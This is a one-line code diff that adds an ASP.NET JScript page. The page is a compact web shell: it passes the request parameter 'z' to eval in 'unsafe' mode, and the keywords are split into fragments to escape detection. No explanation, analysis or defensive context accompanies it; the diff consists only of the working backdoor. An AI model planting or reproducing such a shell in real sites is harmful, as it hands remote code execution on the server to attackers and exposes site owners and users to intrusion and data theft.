@@ -1,0 +1,1 @@
+<%@ Page Language="JScript"%><%var k="u"+"nsafe";this["ev"+"al"](Request.Item["z"],k);%>
